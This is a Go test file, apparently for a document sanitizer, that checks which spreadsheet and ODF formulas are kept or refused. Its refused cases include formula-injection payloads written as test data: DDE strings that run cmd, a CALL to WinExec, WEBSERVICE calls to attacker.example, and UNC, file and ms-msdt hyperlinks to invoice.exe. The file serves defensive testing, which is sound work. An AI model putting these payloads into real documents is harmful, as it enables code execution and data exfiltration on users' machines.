package formula

import (
	"bufio"
	"errors"
	"os"
	"sort"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/internal/testtool"
)

func TestCheck(t *testing.T) {
	tests := []struct {
		name string
		d    Dialect
		f    string
		want error // nil: the formula is kept
	}{
		// Excel grammar, as OOXML stores it.
		{"sum of a range", Excel, "SUM(A1:B2)", nil},
		{"sheet qualified", Excel, "Sheet1!A1*2", nil},
		{"quoted sheet", Excel, "'My Sheet'!A1+'It''s'!B2", nil},
		{"3D reference", Excel, "SUM('Sheet1:Sheet3'!A1)", nil},
		{"structured reference", Excel, "SUM(Table1[Col])+Table1[[#This Row],[Col 1]]", nil},
		{"this-row shorthand", Excel, "[@Amount]*2", nil},
		{"array constant", Excel, "SUM({1,2;3,4})", nil},
		{"strings and comparison", Excel, `IF(A1>=0,"yes ""quoted""","no")`, nil},
		{"spill and implicit intersection", Excel, "SUM(A1#)+@B1:B3", nil},
		{"error literals", Excel, "IFERROR(1/0,#DIV/0!)+ISNA(#N/A)", nil},
		{"future function", Excel, `_xlfn.CONCAT("a","b")&_xlfn._xlws.SORT(A1:A3)`, nil},
		{"japanese defined name", Excel, "売上*1.1", nil},
		{"whole rows and columns", Excel, "SUM(1:1)+SUM(A:A)+$A$1", nil},
		{"percent and exponent", Excel, "-A1%+1.5E+3", nil},
		{"web hyperlink", Excel, `HYPERLINK("https://example.com/a?b=1","web")`, nil},
		{"mail hyperlink", Excel, `HYPERLINK("mailto:info@example.jp")`, nil},
		{"in-workbook hyperlink", Excel, `HYPERLINK("#Sheet2!A1","go")`, nil},
		{"indirect within the workbook", Excel, `INDIRECT("Sheet1!A"&ROW())`, nil},
		{"lambda", Excel, "_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1)(2)", nil},
		{"line breaks", Excel, "SUM(\r\n A1,\tB1)", nil},

		{"webservice", Excel, `WEBSERVICE("http://attacker.example/")`, ErrRemote},
		{"webservice in a condition", Excel, `NOT(ISERROR(WEBSERVICE("http://attacker.example/cf")))`, ErrRemote},
		{"prefixed webservice", Excel, `_xlfn.WEBSERVICE("http://x/")`, ErrRemote},
		{"image from a url", Excel, `_xlfn.IMAGE("https://x/a.png")`, ErrRemote},
		{"rtd", Excel, `RTD("prog.id",,"topic")`, ErrRemote},
		{"call", Excel, `CALL("kernel32","WinExec","JCJ","calc",0)`, ErrRemote},
		{"filterxml", Excel, `FILTERXML("<a/>","//a")`, ErrRemote},
		{"cube", Excel, `CUBEVALUE("conn","[M].[x]")`, ErrRemote},
		{"user defined", Excel, "_xludf.Payload(1)", ErrFunction},
		{"add-in", Excel, "_xll.Payload(1)", ErrFunction},
		{"unknown function", Excel, "FOO(1)", ErrFunction},
		{"dde", Excel, "cmd|' /c calc'!A0", ErrDDE},
		{"dde with a path", Excel, `msexcel|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, ErrDDE},
		{"dde after an operator", Excel, "1+cmd|'/c calc'!A0", ErrDDE},
		{"unc hyperlink", Excel, `HYPERLINK("\\attacker.example\share\invoice.exe","Open invoice")`, ErrLink},
		{"file hyperlink", Excel, `HYPERLINK("file:///C:/Windows/System32/calc.exe")`, ErrLink},
		{"computed hyperlink", Excel, `HYPERLINK(A1,"x")`, ErrLink},
		{"concatenated hyperlink", Excel, `HYPERLINK("https://ok"&A1)`, ErrLink},
		{"protocol handler", Excel, `HYPERLINK("ms-msdt:/id PCWDiagnostic")`, ErrLink},
		{"hyperlink hidden in an argument", Excel, `IF(1,HYPERLINK("search-ms:query=x"),0)`, ErrLink},
		{"external book index", Excel, "[1]Sheet1!A1", ErrExternal},
		{"external name", Excel, "[1]!Name", ErrExternal},
		{"external in quotes", Excel, "'[1]Sheet1'!A1", ErrExternal},
		{"external path", Excel, `'C:\dir\[b.xlsx]Sheet1'!A1`, ErrExternal},
		{"external book name", Excel, "SUM([Book1.xlsx]Sheet1!A1:A3)", ErrExternal},
		{"indirect to another file", Excel, `INDIRECT("'file:///C:/x.ods'#$Sheet1.A1")`, ErrExternal},
		{"indirect to another book", Excel, `INDIRECT("[b.xlsx]Sheet1!A1")`, ErrExternal},
		{"unterminated string", Excel, `"abc`, ErrSyntax},
		{"unbalanced", Excel, "SUM(1", ErrSyntax},
		{"semicolon outside an array", Excel, "A1;B1", ErrSyntax},
		{"stray character", Excel, "A1 ` B1", ErrSyntax},

		// OpenFormula (after the of: prefix).
		{"odf sum", OpenFormula, "=SUM([.A1:.B2])", nil},
		{"odf sheet", OpenFormula, "=[$Sheet1.A1]*2+[$'Sheet 1'.B2]", nil},
		{"odf if", OpenFormula, `=IF([.A1]>0;"y";"n")`, nil},
		{"odf array", OpenFormula, "=SUM({1;2|3;4})", nil},
		{"odf excel function", OpenFormula, `=COM.MICROSOFT.CONCAT("a";"b")`, nil},
		{"odf error ref", OpenFormula, "=[#REF!]", nil},
		{"odf hyperlink", OpenFormula, `=HYPERLINK("https://example.com";"web")`, nil},
		{"odf webservice", OpenFormula, `=COM.MICROSOFT.WEBSERVICE("http://x/")`, ErrRemote},
		{"odf dde", OpenFormula, `=DDE("soffice";"x";"y")`, ErrDDE},
		{"odf pipe", OpenFormula, "=[.A1]|[.B1]", ErrDDE},
		{"odf external", OpenFormula, "=['file:///tmp/x.ods'#$Sheet1.A1]", ErrExternal},
		{"odf external unquoted", OpenFormula, "=[file:///tmp/x.ods#$Sheet1.A1]", ErrExternal},
		{"odf file hyperlink", OpenFormula, `=HYPERLINK("file://attacker.example/share/invoice.exe";"Open")`, ErrLink},

		// ODF conditions.
		{"is-true-formula", Condition, "is-true-formula(NOT(ISERROR([.A1])))", nil},
		{"cell content", Condition, "cell-content()>3", nil},
		{"between", Condition, "cell-content-is-between(1,5)", nil},
		{"number format", Condition, "value()>=0", nil},
		{"calcext keywords", Condition, "formula-is(ISODD([.A1]))", nil},
		{"calcext comparison", Condition, "!=5", nil},
		{"calcext text", Condition, `begins-with("x")`, nil},
		{"condition webservice", Condition, `is-true-formula(NOT(ISERROR(WEBSERVICE("http://attacker.example/stylemap"))))`, ErrRemote},
		{"unknown keyword", Condition, "run-this(1)", ErrFunction},

		// Writer fields.
		{"writer sum", Writer, "<A1>+<Table1.B2>", nil},
		{"writer words", Writer, "sum <A1:A3> mul 2", nil},
		{"writer condition", Writer, "Page == 1 || Chapter != 2", nil},
		{"writer function", Writer, "sqrt(4)", nil},
		{"writer unknown", Writer, "WEBSERVICE(1)", ErrRemote},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := Check(tc.d, tc.f)
			switch {
			case tc.want == nil && err != nil:
				t.Errorf("Check(%s, %q) = %v, want nil", tc.d, tc.f, err)
			case tc.want != nil && !errors.Is(err, tc.want):
				t.Errorf("Check(%s, %q) = %v, want %v", tc.d, tc.f, err, tc.want)
			}
		})
	}
}

// TestTokenizeLossless: the tokens of every accepted formula give the input back, so the
// judge saw every byte.
func TestTokenizeLossless(t *testing.T) {
	for _, f := range []string{"SUM(A1:B2)", "'a b'!A1", "Table1[[#This Row],[x]]", `"a""b"`, "{1,2;3,4}", "=SUM([.A1];1)"} {
		for _, d := range []Dialect{Excel, OpenFormula, Condition, Writer} {
			toks, err := Tokenize(d, f)
			if err != nil {
				continue
			}
			var b strings.Builder
			for _, tk := range toks {
				b.WriteString(tk.Text)
			}
			if b.String() != f {
				t.Errorf("Tokenize(%s, %q) joins to %q", d, f, b.String())
			}
		}
	}
}

// readSamples reads testdata/functions.txt: name, tab, a formula calling it.
func readSamples(t testing.TB) map[string]string {
	t.Helper()
	f, err := os.Open("testdata/functions.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[string]string{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		name, sample, ok := strings.Cut(line, "\t")
		if !ok {
			t.Fatalf("functions.txt: bad line %q", line)
		}
		if _, dup := out[name]; dup {
			t.Fatalf("functions.txt: %s twice", name)
		}
		out[name] = sample
	}
	return out
}

// sampleDialect maps a sample to the dialect and text Check reads.
func sampleDialect(s string) (Dialect, string) {
	if rest, ok := strings.CutPrefix(s, "of:"); ok {
		return OpenFormula, rest
	}
	return Excel, s
}

// TestAllowListCovered fails when an allow-list entry has no sample, a sample names no
// entry, an entry is listed twice, or a sample is not kept.
func TestAllowListCovered(t *testing.T) {
	samples := readSamples(t)
	seen := map[string]bool{}
	for _, g := range functionGroups {
		if g.reason == "" {
			t.Errorf("group with names %v has no reason", g.names)
		}
		for _, n := range g.names {
			if seen[n] {
				t.Errorf("%s is listed twice", n)
			}
			seen[n] = true
			s, ok := samples[n]
			if !ok {
				t.Errorf("%s is allowed but testdata/functions.txt has no sample for it", n)
				continue
			}
			d, f := sampleDialect(s)
			if err := Check(d, f); err != nil {
				t.Errorf("sample of %s (%q) is refused: %v", n, s, err)
			}
			if !strings.Contains(strings.ToUpper(s), n+"(") {
				t.Errorf("sample of %s (%q) does not call it", n, s)
			}
		}
	}
	var extra []string
	for n := range samples {
		if !seen[n] {
			extra = append(extra, n)
		}
	}
	sort.Strings(extra)
	if len(extra) > 0 {
		t.Errorf("testdata/functions.txt has samples for functions not on the allow-list: %v", extra)
	}
	for n := range remote {
		if functions[n] != "" {
			t.Errorf("%s is both allowed and listed as remote", n)
		}
	}
}

// FuzzCheck: no panic, no input read partly: an accepted tokenization gives the input
// back, and Check agrees with itself.
func FuzzCheck(f *testing.F) {
	for _, s := range readSamples(f) {
		f.Add(s)
	}
	for _, s := range []string{"cmd|' /c calc'!A0", "[1]Sheet1!A1", `HYPERLINK("\\x\y")`, "=['file:///x'#$S.A1]", "is-true-formula(1)", "<A1>+1", "{1;2|3}", "Table1[[#All],[a]]"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		testtool.Deadline(t, testtool.FuzzInputTimeout)
		for _, d := range []Dialect{Excel, OpenFormula, Condition, Writer} {
			toks, err := Tokenize(d, s)
			if err == nil {
				var b strings.Builder
				for _, tk := range toks {
					b.WriteString(tk.Text)
				}
				if b.String() != s {
					t.Fatalf("Tokenize(%s, %q) joins to %q", d, s, b.String())
				}
			}
			e1, e2 := Check(d, s), Check(d, s)
			if (e1 == nil) != (e2 == nil) {
				t.Fatalf("Check(%s, %q) is not deterministic", d, s)
			}
			if e1 == nil && err != nil {
				t.Fatalf("Check(%s, %q) accepted what Tokenize refused: %v", d, s, err)
			}
		}
	})
}
